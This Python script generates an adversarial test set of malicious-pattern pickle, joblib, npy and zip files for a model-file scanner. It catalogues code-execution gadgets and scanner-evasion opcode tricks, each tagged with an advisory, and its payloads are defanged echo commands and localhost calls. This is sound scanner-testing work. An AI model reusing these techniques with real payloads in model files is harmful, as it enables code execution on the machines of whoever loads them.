#!/usr/bin/python3
"""Blind adversarial set for `mlsec scan`.

Every file is assembled from raw opcodes / bytes; nothing here is ever
unpickled or loaded. Payloads are harmless on purpose (`echo mlsec-blind`,
paths under /tmp/mlsec_blind_*, http://127.0.0.1:9/ = discard port) in case
something does load them.  Run: /usr/bin/python3 gen_adversarial.py
Writes adversarial/ and adversarial/MANIFEST.tsv (file, class, source, expected).
"""
import base64, io, json, os, shutil, struct, tarfile, zipfile, zlib, bz2, lzma, binascii
HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "adversarial")
shutil.rmtree(OUT, ignore_errors=True)
os.makedirs(OUT)
ROWS = []
CMD = "echo mlsec-blind"
PY = "print('mlsec-blind')"
TMP = "/tmp/mlsec_blind_file"
URL = "http://127.0.0.1:9/mlsec-blind"
PS = "https://github.com/mmaitre314/picklescan/security/advisories/"

def write(name, data, cls, src, expected="malicious"):
    p = os.path.join(OUT, name)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    with open(p, "wb") as f:
        f.write(data)
    ROWS.append((name, cls, src, expected))

# ---------------------------------------------------------------- pickle assembler
class G:   # a global
    def __init__(self, mod, name): self.mod, self.name = mod, name
class C:   # a call: f(*args)
    def __init__(self, f, *args): self.f, self.args = f, args
class Raw:
    def __init__(self, b): self.b = b

def enc(x, proto=4, sg=True):
    b = bytearray()
    if isinstance(x, Raw): b += x.b
    elif x is None: b += b"N"
    elif x is True: b += b"\x88" if proto >= 2 else b"I01\n"
    elif x is False: b += b"\x89" if proto >= 2 else b"I00\n"
    elif isinstance(x, int):
        if proto >= 1 and -2**31 <= x < 2**31: b += b"J" + struct.pack("<i", x)
        else: b += b"I%d\n" % x
    elif isinstance(x, float):
        b += b"G" + struct.pack(">d", x) if proto >= 1 else b"F%r\n" % x
    elif isinstance(x, str):
        u = x.encode()
        if proto >= 4 and len(u) < 256: b += b"\x8c" + bytes([len(u)]) + u
        elif proto >= 1: b += b"X" + struct.pack("<I", len(u)) + u
        else: b += b"V" + x.encode("raw_unicode_escape") + b"\n"
    elif isinstance(x, bytes):
        if proto >= 3: b += (b"C" + bytes([len(x)]) if len(x) < 256 else b"B" + struct.pack("<I", len(x))) + x
        else: b += enc(C(G("_codecs", "encode"), x.decode("latin1"), "latin1"), proto, sg)
    elif isinstance(x, tuple):
        if not x: b += b")"
        else:
            b += b"(" + b"".join(enc(e, proto, sg) for e in x) + b"t"
    elif isinstance(x, list):
        b += b"]" if proto >= 1 else b"(l"
        if x:
            b += b"(" + b"".join(enc(e, proto, sg) for e in x) + b"e"
    elif isinstance(x, dict):
        b += b"}" if proto >= 1 else b"(d"
        if x:
            b += b"(" + b"".join(enc(k, proto, sg) + enc(v, proto, sg) for k, v in x.items()) + b"u"
    elif isinstance(x, G):
        if proto >= 4 and sg: b += enc(x.mod, proto) + enc(x.name, proto) + b"\x93"
        else: b += b"c" + x.mod.encode() + b"\n" + x.name.encode() + b"\n"
    elif isinstance(x, C):
        b += enc(x.f, proto, sg) + enc(tuple(x.args), proto, sg) + b"R"
    else:
        raise TypeError(x)
    return bytes(b)

def pkl(x, proto=4, sg=True):
    head = b"\x80" + bytes([proto]) if proto >= 2 else b""
    return head + enc(x, proto, sg) + b"."

def sys_os():  # the harmless-call helper for the last step of many chains
    return C(G("os", "system"), CMD)

def pk(name, x, cls, src, proto=4, expected="malicious", sg=True):
    write(name, pkl(x, proto, sg), cls, src, expected)

def inst(mod, name):   # an instance made by calling the class with no argument
    return C(G(mod, name))

def meth(mod, cls, m, *args):  # Class.method(Class(), *args) via a dotted STACK_GLOBAL name
    return C(G(mod, f"{cls}.{m}"), inst(mod, cls), *args)

# ---------------------------------------------------------------- 1. innocent-looking stdlib entry points
S = "stdlib entry point runs code"
pk("pip_main.pkl", C(G("pip", "main"), ["install", "--index-url", URL, "mlsec-blind-nonexistent"]), "pip installs a package (code)", "CVE-2025-1716")
pk("pip_internal_cli_main.pkl", C(G("pip._internal.cli.main", "main"), ["install", "--no-index", "-f", "/tmp/mlsec_blind", "x"]), "pip internal entry point", "CVE-2025-1716; GHSA-vqmv-47xg-9wpr")
pk("pip_vendor_distlib_scriptmaker.pkl", C(G("pip._vendor.distlib.scripts", "ScriptMaker"), "/tmp/mlsec_blind_src", "/tmp/mlsec_blind_dst"), "pip vendored distlib writes scripts", "promptfoo/modelaudit#598 (CVE-2025-1716 family)")
pk("ensurepip_run_pip.pkl", C(G("ensurepip", "_run_pip"), ["--version"], [TMP]), "ensurepip._run_pip runs a subprocess", PS + "GHSA-xp4f-hrf8-rxw7")
pk("idlelib_calltip_get_entity.pkl", C(G("idlelib.calltip", "get_entity"), "__import__('os').system('echo mlsec-blind')"), "idlelib eval", PS + "GHSA-6w4w-5w54-rjvr (idlelib get_entity eval)")
pk("idlelib_autocomplete_fetch.pkl", meth("idlelib.autocomplete", "AutoComplete", "fetch_completions", "__import__('os')", 1), "idlelib eval", PS + "GHSA-7cq8-mj8x-j263")
pk("idlelib_run_executive_runcode.pkl", C(G("idlelib.run", "Executive.runcode"), C(G("builtins", "object")), PY), "idlelib exec", PS + "GHSA-m869-42cg-3xwr")
pk("idlelib_pyshell_runcommand.pkl", C(G("idlelib.pyshell", "ModifiedInterpreter.runcommand"), None, PY), "idlelib exec", PS + "GHSA-j343-8v2j-ff7w")
pk("idlelib_debugobj_treeitem.pkl", C(G("idlelib.debugobj", "ObjectTreeItem.SetText"), C(G("idlelib.debugobj", "ObjectTreeItem"), "x", None, G("builtins", "print")), "1"), "idlelib eval via SetText", PS + "GHSA-3vg9-h568-4w9m")
pk("lib2to3_grammar_loads.pkl", meth("lib2to3.pgen2.grammar", "Grammar", "loads", b"\x80\x04cos\nsystem\n\x8c\x10echo mlsec-blind\x85R."), "nested pickle via lib2to3 Grammar.loads", PS + "GHSA-f54q-57x4-jg88")
pk("lib2to3_grammar_load_file.pkl", meth("lib2to3.pgen2.grammar", "Grammar", "load", TMP), "lib2to3 Grammar.load unpickles a file", PS + "GHSA-f54q-57x4-jg88 (file variant)")
pk("lib2to3_pgen_make_label.pkl", C(G("lib2to3.pgen2.pgen", "ParserGenerator.make_label"), None, None, "'x' if __import__('os').system('echo mlsec-blind') else 'y'"), "lib2to3 eval", PS + "GHSA-p9w7-82w4-7q8m")
pk("bdb_run.pkl", meth("bdb", "Bdb", "run", PY), "bdb exec", "picklescan#29 (bdb/pdb)")
pk("pdb_run.pkl", C(G("pdb", "run"), PY), "pdb exec", "picklescan#29")
pk("trace_run.pkl", meth("trace", "Trace", "run", PY), "trace exec", PS + "GHSA-5qwp-399c-mjwf")
pk("trace_runctx.pkl", meth("trace", "Trace", "runctx", PY, {}, {}), "trace exec", PS + "GHSA-g344-hcph-8vgg")
pk("profile_run.pkl", meth("profile", "Profile", "run", PY), "profile exec", PS + "GHSA-x696-vm39-cp64")
pk("cprofile_runctx.pkl", C(G("cProfile", "runctx"), PY, {}, {}), "cProfile exec", PS + "GHSA-9w88-8rmg-7g2p")
pk("timeit_timeit.pkl", C(G("timeit", "timeit"), PY, "pass", None, 1), "timeit exec", "GHSA-46h3-79wf-xr6c")
pk("doctest_debug_script.pkl", C(G("doctest", "debug_script"), PY), "doctest exec", PS + "GHSA-fqq6-7vqf-w3fg")
pk("distutils_spawn.pkl", C(G("distutils.spawn", "spawn"), ["echo", "mlsec-blind"]), "distutils spawns", "CVE-2025-10155 family (distutils)")
pk("distutils_file_util_write_file.pkl", C(G("distutils.file_util", "write_file"), TMP, ["x"]), "distutils writes a file", "CVE-2025-10155")
pk("setuptools_distutils_spawn.pkl", C(G("setuptools._distutils.spawn", "spawn"), ["echo", "mlsec-blind"]), "vendored distutils spawns", "CVE-2025-10155 family")
pk("posixsubprocess_fork_exec.pkl", C(G("_posixsubprocess", "fork_exec"), [b"/bin/echo", b"mlsec-blind"], [b"/bin/echo"], True, (), None, None,
    -1, -1, -1, -1, -1, -1, -1, -1, False, False, -1, None, None, None, -1, None, False), "_posixsubprocess.fork_exec", "JFrog/Sonatype picklescan research; fickling#210")
pk("asyncio_subprocess_transport.pkl", C(G("asyncio.unix_events", "_UnixSubprocessTransport"), None, CMD, True, None, None, None, 0), "asyncio subprocess transport", "CVE-2025-10157")
pk("asyncio_run_create_subprocess_shell.pkl", C(G("asyncio", "run"), C(G("asyncio.subprocess", "create_subprocess_shell"), CMD)), "asyncio.run(create_subprocess_shell)", "CVE-2025-10157 family")
pk("asyncio_base_events_subprocess.pkl", C(G("asyncio.base_events", "BaseEventLoop.subprocess_shell"), C(G("asyncio", "new_event_loop")), None, CMD), "asyncio loop subprocess_shell", "CVE-2025-10157 family")
pk("ssl_get_server_certificate.pkl", C(G("ssl", "get_server_certificate"), ("127.0.0.1", 9)), "network: ssl connect", PS + "GHSA-hgrh-qx5j-jfwx")
pk("smtplib_smtp.pkl", C(G("smtplib", "SMTP"), "127.0.0.1", 9), "network: smtplib connect", PS + "GHSA-hgrh-qx5j-jfwx family")
pk("imaplib_imap4.pkl", C(G("imaplib", "IMAP4"), "127.0.0.1", 9), "network: imaplib connect", "GHSA-hgrh-qx5j-jfwx family")
pk("imaplib_imap4_stream.pkl", C(G("imaplib", "IMAP4_stream"), CMD), "imaplib.IMAP4_stream runs a command", "CVE-2026-56315")
pk("ftplib_ftp.pkl", C(G("ftplib", "FTP"), "127.0.0.1"), "network: ftplib connect", "network class")
pk("poplib_pop3.pkl", C(G("poplib", "POP3"), "127.0.0.1", 9), "network: poplib connect", "network class")
pk("nntplib_nntp.pkl", C(G("nntplib", "NNTP"), "127.0.0.1", 9), "network: nntplib connect", "network class")
pk("http_client_request.pkl", C(G("http.client", "HTTPConnection.request"), C(G("http.client", "HTTPConnection"), "127.0.0.1", 9), "GET", "/mlsec-blind"), "network: http.client request", PS + "GHSA-hgrh-qx5j-jfwx")
pk("urllib_urlretrieve.pkl", C(G("urllib.request", "urlretrieve"), URL, TMP), "network+file: urlretrieve", "network class")
pk("xmlrpc_serverproxy_call.pkl", C(G("builtins", "getattr"), C(G("xmlrpc.client", "ServerProxy"), URL), "system.listMethods"), "network: xmlrpc proxy", "network class", expected="malicious")
pk("socket_create_connection.pkl", C(G("socket", "create_connection"), ("127.0.0.1", 9)), "network: socket", "network class")
pk("uuid_get_command_stdout.pkl", C(G("uuid", "_get_command_stdout"), "echo", "mlsec-blind"), "uuid internal runs a command", "CVE-2026-56315")
pk("osx_support_read_output.pkl", C(G("_osx_support", "_read_output"), CMD), "_osx_support runs a shell command", "CVE-2026-56315")
pk("aix_support_read_cmd_output.pkl", C(G("_aix_support", "_read_cmd_output"), CMD), "_aix_support runs a command", "CVE-2026-56315")
pk("pyrepl_pager_pipe.pkl", C(G("_pyrepl.pager", "pipe_pager"), "x", CMD), "_pyrepl.pager runs a command", "CVE-2026-56315")
pk("pydoc_pipepager.pkl", C(G("pydoc", "pipepager"), "x", CMD), "pydoc.pipepager runs a shell command", "pydoc pager class")
pk("pydoc_locate_chain.pkl", C(C(G("pydoc", "locate"), "os.system"), CMD), "pydoc.locate resolves os.system", "GHSA-vvpj-8cmc-gx39 class")
pk("pkgutil_resolve_name_chain.pkl", C(C(G("pkgutil", "resolve_name"), "os:system"), CMD), "pkgutil.resolve_name universal bypass", "GHSA-vvpj-8cmc-gx39")
pk("logging_config_resolve.pkl", C(C(G("logging.config", "_resolve"), "os.system"), CMD), "logging.config._resolve import", "logging.config factory class")
pk("logging_config_dictconfig_factory.pkl", C(G("logging.config", "dictConfig"), {"version": 1, "handlers": {"h": {"()": "os.system", "command": CMD}}}), "logging.config dictConfig '()' factory", "logging.config factory class")
pk("logging_config_fileconfig.pkl", C(G("logging.config", "fileConfig"), TMP + ".ini"), "logging.config.fileConfig evals", "logging.config factory class")
pk("logging_config_listen.pkl", C(G("logging.config", "listen"), 9), "logging.config.listen (network config server)", "logging.config factory class")
pk("runpy_run_path.pkl", C(G("runpy", "run_path"), TMP + ".py"), "runpy runs a file", "runpy class")
pk("runpy_run_module.pkl", C(G("runpy", "run_module"), "this"), "runpy runs a module", "runpy class")
pk("runpy_run_code.pkl", C(G("runpy", "_run_code"), C(G("builtins", "compile"), PY, "<x>", "exec"), {}), "runpy._run_code + compile", "runpy class")
pk("code_interactive_runsource.pkl", meth("code", "InteractiveInterpreter", "runsource", PY), "code.InteractiveInterpreter exec", PS + "GHSA (code.InteractiveInterpreter.runcode, picklescan#48)")
pk("code_console_push.pkl", meth("code", "InteractiveConsole", "push", PY), "code.InteractiveConsole exec", "picklescan#48 family")
pk("codeop_compile_exec.pkl", C(G("builtins", "exec"), C(G("codeop", "compile_command"), PY)), "codeop compile + exec", "codeop class")
pk("importlib_import_module_getattr.pkl", C(C(G("builtins", "getattr"), C(G("importlib", "import_module"), "os"), "system"), CMD), "importlib + getattr chain", "picklescan#66, #74")
pk("importlib_find_spec_chain.pkl", C(G("importlib.util", "module_from_spec"), C(G("importlib.util", "find_spec"), "os")), "importlib.util spec chain", "picklescan#66")
pk("dunder_import_getattr.pkl", C(C(G("builtins", "getattr"), C(G("builtins", "__import__"), "subprocess"), "getoutput"), CMD), "__import__ + getattr chain", "classic")
pk("marshal_loads_exec.pkl", C(G("builtins", "exec"), C(G("marshal", "loads"), b"\xe3mlsec-blind-not-real-bytecode")), "marshal.loads + exec", "picklescan#74")
pk("operator_attrgetter_chain.pkl", C(C(G("operator", "attrgetter"), "system"), C(G("importlib", "import_module"), "os")), "operator.attrgetter chain", PS + "GHSA-m273-6v24-x4m4")
pk("operator_methodcaller_sysmodules.pkl", C(C(G("operator", "methodcaller"), "system", CMD), C(C(G("operator", "itemgetter"), "os"), G("sys", "modules"))), "methodcaller on sys.modules['os']", PS + "GHSA-955r-x9j8-7rhh")
pk("_operator_methodcaller.pkl", C(C(G("_operator", "methodcaller"), "getoutput", CMD), C(G("importlib", "import_module"), "subprocess")), "_operator.methodcaller", PS + "GHSA-m273-6v24-x4m4")
pk("functools_partial_system.pkl", C(C(G("functools", "partial"), G("os", "system"), CMD)), "functools.partial wrapping os.system", "fickling#210 (partial)")
pk("functools_reduce_getattr.pkl", C(G("functools", "reduce"), G("builtins", "getattr"), ["system"], C(G("importlib", "import_module"), "os")), "functools.reduce getattr", "chain class", expected="malicious")
pk("builtins_getattr_builtins_eval.pkl", C(C(G("builtins", "getattr"), G("builtins", "__builtins__"), "eval"), "1"), "getattr chain to eval", "chain class")
pk("builtins_getattr_dict_get.pkl", C(C(G("builtins", "getattr"), C(G("builtins", "vars"), C(G("builtins", "__import__"), "os")), "get"), "system"), "vars(module).get('system')", "chain class")
pk("builtins_breakpoint.pkl", C(G("builtins", "breakpoint")), "builtins.breakpoint (pdb)", "debugger class")
pk("builtins_open_write.pkl", C(C(G("builtins", "getattr"), C(G("builtins", "open"), TMP, "w"), "write"), "x"), "open + write", "file class")
pk("io_fileio.pkl", C(G("_io", "FileIO"), TMP, "w"), "_io.FileIO writes", "CVE-2025-10156")
pk("pathlib_write_text.pkl", C(G("pathlib", "Path.write_text"), C(G("pathlib", "Path"), TMP), "x"), "pathlib write_text", "issue 9 (Path write_*)")
pk("pathlib_read_text.pkl", C(G("pathlib", "PosixPath.read_text"), C(G("pathlib", "PurePosixPath"), "/etc/hostname")), "pathlib read_text on a pure path arg", "issue 9 (Path read_text)")
pk("shutil_rmtree.pkl", C(G("shutil", "rmtree"), "/tmp/mlsec_blind_nonexistent"), "shutil deletes", "picklescan#29")
pk("tempfile_mkstemp.pkl", C(G("tempfile", "mkstemp"), "", "mlsec_blind", "/tmp"), "tempfile creates file", "file class", expected="suspicious")
pk("webbrowser_open.pkl", C(G("webbrowser", "open"), URL), "webbrowser runs a browser", "network/exec class")
pk("ctypes_cdll.pkl", C(G("ctypes", "CDLL"), "/tmp/mlsec_blind.so"), "ctypes loads a library", "native code class")
pk("pty_spawn.pkl", C(G("pty", "spawn"), ["echo", "mlsec-blind"]), "pty.spawn", "exec class")
pk("os_posix_spawn.pkl", C(G("posix", "posix_spawn"), "/bin/echo", ["echo", "mlsec-blind"], {}), "posix.posix_spawn", "exec class")
pk("multiprocessing_spawnv_passfds.pkl", C(G("multiprocessing.util", "spawnv_passfds"), "/bin/echo", ["echo", "mlsec-blind"], ()), "multiprocessing.util spawn", "exec class")
pk("venv_create_with_pip.pkl", C(G("venv", "create"), "/tmp/mlsec_blind_venv", False, False, False, False, True), "venv create with pip", PS + "GHSA-vqmv-47xg-9wpr")
pk("zipimport_load.pkl", C(G("zipimport", "zipimporter.load_module"), C(G("zipimport", "zipimporter"), "/tmp/mlsec_blind.zip"), "x"), "zipimport loads code", "import class")
pk("sqlite3_connect_execute.pkl", C(G("sqlite3", "Connection.execute"), C(G("sqlite3", "connect"), TMP), "select 1"), "sqlite3 writes a file", "file class", expected="suspicious")
pk("test_support_script_helper.pkl", C(G("test.support.script_helper", "assert_python_ok"), "-c", PY), "test.support runs python", "exec class")
pk("dataclasses_create_fn.pkl", C(G("dataclasses", "_create_fn"), "f", (), "  return __import__('os').system('echo mlsec-blind')"), "dataclasses._create_fn exec", "issue 9 (dataclasses internals)")
pk("typing_eval_type.pkl", C(G("typing", "_eval_type"), C(G("typing", "ForwardRef"), "__import__('os').system('echo mlsec-blind')"), {}, {}), "typing._eval_type eval", "issue 9 (typing internals)")
pk("typing_forwardref_evaluate.pkl", C(G("typing", "ForwardRef._evaluate"), C(G("typing", "ForwardRef"), "len('mlsec-blind')"), {}, {}, C(G("builtins", "frozenset"))), "typing ForwardRef._evaluate", "issue 9 (typing internals)")
pk("cgi_or_platform_popen.pkl", C(G("platform", "_syscmd_file"), "/tmp/mlsec_blind"), "platform runs `file`", "exec class", expected="suspicious")
pk("subprocess_getoutput_p0.pkl", C(G("subprocess", "getoutput"), CMD), "plain subprocess, protocol 0 (control)", "control", proto=0)

# ---------------------------------------------------------------- 2. library helpers that import / load / compile / download
pk("torch_fx_forward_from_src.pkl", C(G("torch.fx.graph_module", "_forward_from_src"), "def forward(self):\n    return __import__('os').system('echo mlsec-blind')\n", {}), "torch.fx exec of source", "picklescan GHSA (torch.fx) / fickling")
pk("torch_hub_download.pkl", C(G("torch.hub", "download_url_to_file"), URL, TMP), "torch.hub download", "library download class")
pk("torch_hub_load.pkl", C(G("torch.hub", "load"), "mlsec/blind", "m"), "torch.hub.load runs hubconf", "library download+exec class")
pk("torch_load_nested.pkl", C(G("torch", "load"), TMP + ".pt"), "torch.load of another file", "nested load class")
pk("torch_jit_load.pkl", C(G("torch.jit", "load"), TMP + ".pt"), "torch.jit.load", "nested load class")
pk("torch_cpp_extension_load_inline.pkl", C(G("torch.utils.cpp_extension", "load_inline"), "x", "int x(){return 0;}"), "torch compiles C++", "library compile class")
pk("torch_bottleneck_run_autograd_prof.pkl", C(G("torch.utils.bottleneck.__main__", "run_autograd_prof"), PY, {}), "torch bottleneck exec", PS + "GHSA-4whj-rm5r-c2v8")
pk("torch_serialization_load.pkl", C(G("torch.serialization", "load"), TMP), "torch.serialization.load", "nested load class")
pk("numpy_load_allow_pickle.pkl", C(G("numpy", "load"), TMP + ".npy", None, True), "numpy.load allow_pickle", "nested load class")
pk("numpy_testing_runstring.pkl", C(G("numpy.testing._private.utils", "runstring"), PY, {}), "numpy.testing runstring exec", "library exec class")
pk("numpy_f2py_getlincoef.pkl", C(G("numpy.f2py.crackfortran", "getlincoef"), "__import__('os').system('echo mlsec-blind')", {}), "numpy f2py eval", "fickling#210 (f2py)")
pk("numpy_distutils_exec_command.pkl", C(G("numpy.distutils.exec_command", "exec_command"), CMD), "numpy.distutils exec_command", "library exec class")
pk("numpy_ctypeslib_load_library.pkl", C(G("numpy.ctypeslib", "load_library"), "mlsec_blind", "/tmp"), "numpy loads a library", "native code class")
pk("numpy_datasource_open.pkl", C(G("numpy.lib._datasource", "open"), URL), "numpy DataSource fetches URL", "network class")
pk("pandas_read_pickle.pkl", C(G("pandas", "read_pickle"), TMP + ".pkl"), "pandas.read_pickle nested", "nested load class")
pk("pandas_read_csv_url.pkl", C(G("pandas.io.parsers.readers", "read_csv"), URL), "pandas.read_csv URL", "network class", expected="suspicious")
pk("pandas_eval.pkl", C(G("pandas.core.computation.eval", "eval"), "1+1", None, "python"), "pandas eval", "library eval class")
pk("pandas_io_common_urlopen.pkl", C(G("pandas.io.common", "urlopen"), URL), "pandas urlopen", "network class")
pk("joblib_load_nested.pkl", C(G("joblib", "load"), TMP + ".joblib"), "joblib.load nested", "nested load class")
pk("sklearn_fetch_openml.pkl", C(G("sklearn.datasets", "fetch_openml"), "mlsec-blind"), "sklearn downloads", "network class", expected="suspicious")
pk("scipy_io_loadmat.pkl", C(G("scipy.io", "loadmat"), TMP), "scipy reads a file", "file class", expected="suspicious")
pk("pickle_loads_nested.pkl", C(G("pickle", "loads"), b"\x80\x04cos\nsystem\n\x8c\x10echo mlsec-blind\x85R."), "nested pickle.loads", PS + "GHSA-84r2-jw7c-4r5q")
pk("_pickle_loads_nested.pkl", C(G("_pickle", "loads"), b"\x80\x04cposix\nsystem\n\x8c\x10echo mlsec-blind\x85R."), "nested _pickle.loads", PS + "GHSA-84r2-jw7c-4r5q")
pk("pickle_load_file.pkl", C(G("pickle", "load"), C(G("builtins", "open"), TMP, "rb")), "pickle.load of file", PS + "GHSA-84r2-jw7c-4r5q")
pk("xgboost_load_model_url.pkl", C(G("xgboost.core", "Booster"), None, None, TMP), "xgboost loads file", "file class", expected="suspicious")

# ---------------------------------------------------------------- 3. opcode tricks
def P(*parts): return b"".join(parts)
def su(s): return b"\x8c" + bytes([len(s)]) + s.encode()
hdr = b"\x80\x04"
# STACK_GLOBAL with names pulled from memo
write("stack_global_memo_names.pkl", P(hdr, su("os"), b"\x940", su("system"), b"\x940", b"h\x00h\x01\x93", su(CMD), b"\x85R."),
      "STACK_GLOBAL from memo (BINGET)", "picklescan GHSA-9gvj-pp9x-gcfr parsing-flaw class")
# memo overwrite: first put innocent, then overwrite index 0 with 'os'
write("memo_overwrite.pkl", P(hdr, su("numpy"), b"q\x00", b"0", su("os"), b"q\x00", b"0", su("system"), b"q\x01", b"0",
      b"h\x00h\x01\x93", su(CMD), b"\x85R."), "memo index overwritten before STACK_GLOBAL", "memo trick")
# computed module name: operator.add('o','s') → STACK_GLOBAL
write("stack_global_computed_name.pkl", P(hdr, enc(C(G("operator", "add"), "o", "s")), su("system"), b"\x93", su(CMD), b"\x85R."),
      "STACK_GLOBAL with computed module name", "computed name class")
write("stack_global_computed_join.pkl", P(hdr, enc(C(G("builtins", "str.join"), "", ["subpro", "cess"])), enc(C(G("builtins", "str.join"), "", ["get", "output"])), b"\x93", su(CMD), b"\x85R."),
      "STACK_GLOBAL with str.join names", "computed name class")
# INST and OBJ opcodes (protocol 0/1 class calls)
write("inst_opcode_popen.pkl", b"((S'echo'\nS'mlsec-blind'\nlp0\nisubprocess\nPopen\n.", "INST opcode calls subprocess.Popen", "opcode coverage")
write("obj_opcode_popen.pkl", P(hdr, b"(", enc(G("subprocess", "Popen")), enc(["echo", "mlsec-blind"]), b"o."), "OBJ opcode calls subprocess.Popen", "opcode coverage")
write("inst_opcode_system.pkl", b"(S'echo mlsec-blind'\nios\nsystem\n.", "INST opcode calls os.system", "opcode coverage")
# __reduce_ex__ tricks: copyreg._reconstructor runs base.__init__
pk("copyreg_reconstructor_popen.pkl", C(G("copyreg", "_reconstructor"), G("subprocess", "Popen"), G("subprocess", "Popen"), ["echo", "mlsec-blind"]), "copyreg._reconstructor runs Popen.__init__", "__reduce_ex__ trick")
pk("copyreg_newobj_popen.pkl", C(G("copyreg", "__newobj__"), G("subprocess", "Popen"), ["echo", "mlsec-blind"]), "copyreg.__newobj__", "__reduce_ex__ trick", expected="suspicious")
write("newobj_ex_popen.pkl", P(hdr, enc(G("subprocess", "Popen")), enc((["echo", "mlsec-blind"],)), b"}", b"\x92."), "NEWOBJ_EX with Popen", "__reduce_ex__ trick", expected="suspicious")
# BUILD calling __setstate__ of an object whose setstate is dangerous-ish: state dict sets attributes then REDUCE on a memo'd callable
write("build_setstate_then_call.pkl", P(hdr, enc(G("builtins", "getattr")), b"\x940", enc(C(G("builtins", "__import__"), "os")), b"\x94",
      b"0h\x00(h\x01", su("system"), b"tR\x94", su(CMD), b"\x85R."), "memo'd getattr reused via BINGET", "memo trick")
# GLOBAL names with odd whitespace/encoding
write("global_unicode_lookalike.pkl", b"\x80\x02c__builtin__\neval\n(X\x03\x00\x00\x001+1tR.", "__builtin__ (py2 name) eval", "name aliasing")
write("global_py2_builtin_map.pkl", b"\x80\x02cexceptions\nException\n)R0c__builtin__\napply\n(cposix\nsystem\n(S'echo mlsec-blind'\nttR.", "py2 __builtin__.apply + posix.system", "name aliasing")
write("global_nt_system.pkl", b"\x80\x02cnt\nsystem\n(S'echo mlsec-blind'\ntR.", "nt.system (windows os)", "name aliasing")
# two pickles: first benign, second malicious (pickle.load called twice by some loaders)
write("two_pickles_second_bad.pkl", pkl({"ok": 1}) + pkl(sys_os()), "second pickle in stream malicious", "trailing pickle class")
# benign-looking payload deep inside a realistic dict
write("dict_deep_payload.pkl", pkl({"model": {"coef": [0.1, 0.2], "meta": {"n": 3, "hook": C(G("subprocess", "check_output"), ["echo", "mlsec-blind"])}}}), "payload nested in a dict", "nesting")
# FRAME lies about its size
write("frame_size_lie.pkl", P(hdr, b"\x95" + struct.pack("<Q", 3), enc(sys_os()), b"."), "FRAME length inconsistent", "parser confusion", expected="malicious")
# truncated/garbage after a malicious prefix (parser error must not hide the call)
write("truncated_after_reduce.pkl", P(hdr, enc(sys_os()), b"\xff\xfe\xfd"), "garbage after REDUCE, no STOP", "parser confusion")
# an EXT opcode (extension registry)
write("ext1_opcode.pkl", P(hdr, b"\x82\x01", su(CMD), b"\x85R."), "EXT1 global via copyreg registry", "opcode coverage", expected="suspicious")
# PERSID / BINPERSID with malicious-looking id (torch uses persistent_load)
write("binpersid_call.pkl", P(hdr, enc(("storage", G("os", "system"), CMD)), b"Q."), "BINPERSID with a global in its id", "opcode coverage")
# protocol 5 with bytearray8/next_buffer + payload
write("proto5_buffers.pkl", P(b"\x80\x05", b"\x96" + struct.pack("<Q", 3) + b"abc", b"0", enc(sys_os(), 5), b"."), "protocol 5 BYTEARRAY8 then call", "opcode coverage")

# ---------------------------------------------------------------- 4. containers: joblib, numpy, torch zips and tars
def npy_header(descr, shape, fortran=False):
    d = "{'descr': %r, 'fortran_order': %s, 'shape': %r, }" % (descr, fortran, shape)
    h = d.encode() + b" " * ((64 - (10 + len(d) + 1) % 64) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h
bad = pkl(C(G("subprocess", "call"), ["echo", "mlsec-blind"]), 2)
write("numpy_object_payload.npy", npy_header("|O", (1,)) + bad, "npy object array with malicious pickle", "numpy allow_pickle class")
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w") as z:
    z.writestr("weights.npy", npy_header("<f8", (2,)) + struct.pack("<2d", 1, 2))
    z.writestr("labels.npy", npy_header("|O", (1,)) + bad)
write("numpy_npz_object_member.npz", buf.getvalue(), "npz with object member pickle", "numpy allow_pickle class")
# joblib: NumpyArrayWrapper for object dtype; the array payload after the wrapper is a nested pickle
jw = P(b"\x80\x04", enc(C(G("joblib.numpy_pickle", "NumpyArrayWrapper"))), b"}", enc({"subclass": G("numpy", "ndarray"), "shape": (1,), "order": "C",
      "dtype": C(G("numpy", "dtype"), "O8", False, True), "allow_mmap": False}), b"u", b"b.", bad)
write("joblib_wrapper_nested_object.joblib", jw, "joblib object array pickle after NumpyArrayWrapper", "nested pickle in joblib")
write("joblib_zlib_payload.joblib", b"ZF0x" + b"%x" % 64 + b"\x00" * 0 + zlib.compress(pkl(sys_os(), 2)), "joblib legacy ZF header", "issue 9 (joblib legacy ZF)")
write("joblib_zlib_plain.joblib", zlib.compress(pkl(sys_os(), 4)), "zlib-compressed joblib dump with payload", "compression")
write("joblib_gzip_payload.joblib", __import__("gzip").compress(pkl(sys_os())), "gzip joblib payload", "compression")
write("joblib_bz2_payload.joblib", bz2.compress(pkl(sys_os())), "bz2 joblib payload", "compression")
write("joblib_xz_payload.joblib", lzma.compress(pkl(sys_os())), "xz joblib payload", "compression")
write("joblib_lzma_alone_payload.joblib", lzma.compress(pkl(sys_os()), format=lzma.FORMAT_ALONE), "lzma-alone joblib payload", "compression")
try:
    import lz4.frame
    write("joblib_lz4_payload.joblib", b"\x04\x22\x4d\x18"[:0] + lz4.frame.compress(pkl(sys_os())), "lz4 frame joblib payload", "issue 9 (lz4)")
except ImportError:
    pass
write("gzip_double_payload.pkl.gz", __import__("gzip").compress(__import__("gzip").compress(pkl(sys_os()))), "gzip inside gzip", "compression")

def crc(b): return binascii.crc32(b) & 0xffffffff
def rawzip(entries, prefix=b"", extra_cd=None, comment=b""):
    """entries: dicts with name, data, [cname] (central name), [method], [flags], [ldata] (local data override)."""
    out = bytearray(prefix); cd = bytearray()
    for e in entries:
        data = e["data"]; meth_ = e.get("method", 0)
        comp = zlib.compress(data)[2:-4] if meth_ == 8 else data
        ldata = e.get("ldata", comp)
        comp = ldata
        off = len(out)
        flags = e.get("flags", 0)
        lname = e["name"].encode(); cname = e.get("cname", e["name"]).encode()
        lsz = (0, 0, 0) if flags & 8 else (crc(data), len(comp), len(data))
        out += struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, flags, meth_, 0, 0x21, *lsz, len(lname), 0) + lname + ldata
        if flags & 8:
            out += struct.pack("<IIII", 0x08074b50, crc(data), len(comp), len(data))
        cd += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 20, 20, flags, meth_, 0, 0x21, crc(data), len(comp), len(data), len(cname), 0, 0, 0, 0, 0, off) + cname
    cdoff = len(out)
    out += cd
    n = len(entries)
